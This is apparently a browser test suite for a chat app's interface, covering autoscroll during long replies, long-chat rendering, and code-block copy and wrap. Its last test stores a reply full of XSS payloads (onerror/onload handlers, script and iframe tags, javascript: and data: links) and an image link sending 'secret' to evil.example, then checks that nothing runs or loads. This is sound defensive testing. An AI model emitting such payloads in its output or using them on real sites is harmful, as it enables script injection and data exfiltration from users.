import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { homePaths } from "../../server/platform/paths.js";
import type { Message } from "../../server/protocol/conversation.js";
import { openDatabase } from "../../server/storage/openDatabase.js";
import { SqliteConversationStore } from "../../server/storage/SqliteConversationStore.js";
import { BrowserTest, replies, replyEnded } from "./BrowserTest.js";

let test: BrowserTest;
beforeAll(async () => {
  test = await BrowserTest.start();
});
afterAll(() => test.close());
afterEach(async () => expect(await test.endStory()).toEqual([]));

/** Longer than a low window, and longer than the model would go on by itself. */
const long = { sampling: { ignoreEos: true, maxTokens: 380, seed: 7 } };
const low = { width: 1000, height: 420 };

async function longReply(minLength: number) {
  const client = await test.connect();
  const { conversation, reply } = await client.send("Tell me a short story about a dog.", long);
  const halted = await test.halt(reply, minLength);
  const page = await test.open({ path: `/c/${conversation.id}`, viewport: low });
  const log = page.getByRole("log");
  await expect.poll(async () => ((await log.textContent()) ?? "").length).toBeGreaterThan(minLength);
  const distance = () => log.evaluate((box) => Math.round(box.scrollHeight - box.clientHeight - box.scrollTop));
  const top = () => log.evaluate((box) => Math.round(box.scrollTop));
  return { page, log, halted, distance, top };
}

describe("a long reply is being written", () => {
  it("is followed while one watches its end", async () => {
    const { page, halted, distance } = await longReply(500);
    await expect.poll(distance).toBeLessThanOrEqual(1);
    halted.resume();
    await replyEnded(page);
    await expect.poll(distance).toBeLessThanOrEqual(1);
    expect(await page.getByRole("button", { name: /Jump to latest/ }).count()).toBe(0);
  });

  it("lets go as soon as one scrolls up, and a button leads back to the end", async () => {
    const { page, log, halted, distance, top } = await longReply(700);
    await expect.poll(distance).toBeLessThanOrEqual(1);
    const end = await top();
    await log.hover();
    // A little is enough: well within reach of the end.
    await page.mouse.wheel(0, -40);
    await expect.poll(top).toBeLessThan(end);
    const stayed = await top();
    halted.resume();
    await replyEnded(page);
    expect(await top()).toBe(stayed);
    await page.getByRole("button", { name: /Jump to latest/ }).click();
    await expect.poll(distance).toBeLessThanOrEqual(1);
  });

  it("can be selected meanwhile, and the selection stays", async () => {
    const { page, halted } = await longReply(200);
    const selected = () => page.evaluate(() => document.getSelection()?.toString() ?? "");
    // The paragraph that is growing: what is selected is its beginning.
    await replies(page)
      .last()
      .locator("p")
      .last()
      .dblclick({ position: { x: 12, y: 10 } });
    const before = await selected();
    expect(before.trim().length).toBeGreaterThan(0);
    halted.resume();
    await replyEnded(page);
    expect(await selected()).toBe(before);
  });

  it("does not move when it ends", async () => {
    const { page, halted } = await longReply(200);
    const places = () =>
      replies(page)
        .last()
        .evaluate((article) => ({
          height: article.getBoundingClientRect().height,
          paragraphs: [...article.querySelectorAll("p")].map((paragraph) => paragraph.getBoundingClientRect().top),
        }));
    const before = await places();
    await page.getByRole("button", { name: "Stop" }).click();
    halted.resume();
    await replyEnded(page);
    expect(await places()).toEqual(before);
  });
});

/** Writes into the store of the running server, as another process might. */
function inStore<T>(change: (store: SqliteConversationStore) => T): T {
  const store = new SqliteConversationStore(openDatabase(homePaths(test.cria.homePath).database));
  try {
    return change(store);
  } finally {
    store.close();
  }
}

describe("a chat has grown very long", () => {
  const turns = 150;

  /** Holds back what the page does when it has nothing else to do, until `releaseIdle`. */
  const holdIdle = `
    const idle = window.requestIdleCallback.bind(window);
    const held = [];
    window.requestIdleCallback = (callback) => held.push(callback);
    window.cancelIdleCallback = () => {};
    window.releaseIdle = () => {
      window.requestIdleCallback = idle;
      for (const callback of held) idle(callback);
    };`;

  it.each([
    ["a usual window", 800],
    ["a tall window", 1500],
  ])("opens at its end; its beginning comes after, and nothing moves meanwhile: %s", async (_, height) => {
    const id = `long-${height}`;
    const messages: Message[] = [];
    for (let turn = 0; turn < turns; turn++) {
      const last = messages.at(-1)?.id;
      const both = { conversationId: id, status: "complete" as const };
      const question = {
        ...both,
        id: `q${turn}-${height}`,
        role: "user" as const,
        text: `Question ${turn}`,
        createdAtMs: 2 * turn,
      };
      messages.push(last === undefined ? question : { ...question, parentId: last });
      messages.push({
        ...both,
        id: `a${turn}-${height}`,
        role: "assistant",
        parentId: `q${turn}-${height}`,
        text: `Answer ${turn} with **some** words, and with \`code\`.\n\n- one\n- two`,
        modelId: "alpaca.demo",
        createdAtMs: 2 * turn + 1,
      });
    }
    const conversation = {
      id,
      title: "Long",
      createdAtMs: 0,
      updatedAtMs: 0,
      headMessageId: `a${turns - 1}-${height}`,
      pinned: false,
      temporary: false,
      settings: {},
    };
    inStore((store) => store.addMessages(conversation, messages, `request-${id}`));
    const page = await test.open({ viewport: { width: 1280, height } });
    await page.addInitScript({ content: holdIdle });
    await page.goto(`${test.cria.url}/c/${id}`);
    const log = page.getByRole("log");
    const end = page.getByText(`Question ${turns - 1}`, { exact: true });
    await end.waitFor();
    // Only the end is drawn; that it is laid out to its last line shows in the frame after.
    await page.evaluate(() => new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn))));
    expect(await page.getByRole("article").count()).toBeLessThan(turns);
    const place = await end.boundingBox();
    await page.evaluate("releaseIdle()");
    await page.getByText("Question 0", { exact: true }).waitFor({ state: "attached" });
    expect(await page.getByRole("article").count()).toBe(2 * turns);
    // Heights are fractions of a pixel, and the browser scrolls by whole ones.
    expect(Math.abs(((await end.boundingBox())?.y ?? 0) - (place?.y ?? 0))).toBeLessThan(1);
    expect(await log.evaluate((box) => Math.round(box.scrollHeight - box.clientHeight - box.scrollTop))).toBe(0);
  });
});

/** Puts a reply into the store as a model might have written it. */
async function storedReply(text: string): Promise<string> {
  const client = await test.connect();
  const { conversation, reply } = await client.send("Who are you?");
  await client.follow(reply.generationId ?? "");
  await client.untilEnd(reply.generationId ?? "");
  const again = { ...reply, id: `${reply.id}x`, text, createdAtMs: reply.createdAtMs + 1 };
  inStore((store) => {
    store.addMessages({ ...conversation, headMessageId: again.id }, [again], again.id);
    store.finishReply(again, { stopReason: "end" }, text);
  });
  return `/c/${conversation.id}`;
}

describe("a reply has code in it", () => {
  const code =
    'const llama = "cria";\n\nconsole.log(llama); // a line that is much longer than the column is wide, so that it has to scroll inside its block and not push the page apart';

  it("can be copied with one press, without its frame", async () => {
    const path = await storedReply(`Here:\n\n\`\`\`ts\n${code}\n\`\`\`\n\nThat is all.`);
    const page = await test.open({ path, permissions: ["clipboard-read", "clipboard-write"] });
    const block = page.getByRole("figure", { name: "Code, ts" });
    await block.getByRole("button", { name: "Copy code" }).click();
    await block.getByRole("button", { name: "Copied" }).waitFor();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(code);
  });

  it("scrolls inside the block, or wraps when one asks for it", async () => {
    const path = await storedReply(`\`\`\`ts\n${code}\n\`\`\``);
    const page = await test.open({ path, viewport: { width: 390, height: 700 } });
    const block = page.getByRole("figure", { name: "Code, ts" });
    const pre = block.locator("pre");
    const overflow = () => pre.evaluate((box) => box.scrollWidth - box.clientWidth);
    expect(await overflow()).toBeGreaterThan(100);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
    await block.getByRole("button", { name: "Wrap lines" }).click();
    await expect.poll(overflow).toBe(0);
  });
});

describe("[T19] a reply wants to do harm", () => {
  it("runs nothing, loads nothing from elsewhere, and says where an image would have come from", async () => {
    const path = await storedReply(
      [
        '<img src="https://evil.example/1.png" onerror="alert(1)"><svg onload="alert(2)"></svg><script>alert(3)</script>',
        '<iframe src="https://evil.example/"></iframe>',
        "[click](javascript:alert(4)) [data](data:text/html,<script>alert(5)</script>)",
        "![a picture](https://evil.example/pixel.png?q=secret)",
        '```"><img/src=x/onerror=alert(6)>\ncode\n```',
        "| a |\n| - |\n| <img src=x onerror=alert(7)> |",
      ].join("\n\n"),
    );
    const page = await test.open({ path });
    await page.getByText("Image from evil.example, not loaded").waitFor();
    const log = page.getByRole("log");
    expect(await log.locator("img, iframe, script, object, embed").count()).toBe(0);
    const addresses = await log.locator("a").evaluateAll((links) => links.map((link) => link.getAttribute("href")));
    expect(addresses).toEqual(["https://evil.example/pixel.png?q=secret"]);
    // Nothing above may have reached the network or opened a dialog: afterEach looks at what the page did.
  });
});
